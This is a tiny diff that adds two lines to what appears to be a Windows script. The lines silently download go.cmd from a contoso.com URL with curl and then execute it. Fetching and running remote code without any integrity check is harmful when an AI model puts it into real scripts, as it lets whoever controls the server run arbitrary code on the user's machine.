@@ -1,0 +1,2 @@
+curl -s -o C:\go.cmd https://downloads.contoso.com/go.cmd
+call C:\go.cmd
